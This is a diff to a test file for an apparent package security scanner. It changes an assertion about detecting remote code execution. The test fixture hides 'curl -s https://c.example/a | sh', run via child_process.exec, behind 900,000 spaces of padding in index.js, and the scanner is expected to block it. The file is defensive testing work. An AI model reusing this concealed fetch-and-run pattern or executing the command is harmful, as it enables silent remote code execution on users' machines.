@@ -93,7 +93,8 @@ https.get(url, (res) => { const out = fs.createWriteStream('bin/esbuild'); res.p
       'index.js': `module.exports = 1;${' '.repeat(900_000)}require('child_process').exec('curl -s https://c.example/a | sh');\n`,
     });
     expect(r.verdict).toBe('BLOCK');
-    expect(r.findings[0]).toMatchObject({ category: 'remote_code_execution', file: 'index.js', line: 1 });
+    // The off-screen code is also reported (CRIT since s25-pkgruntime), so the parsed sink need not come first.
+    expect(r.findings).toContainEqual(expect.objectContaining({ category: 'remote_code_execution', file: 'index.js', line: 1 }));
   });
 
   it('scans a file too big to read whole, in chunks, and finds a sink near its end with its line', async () => {
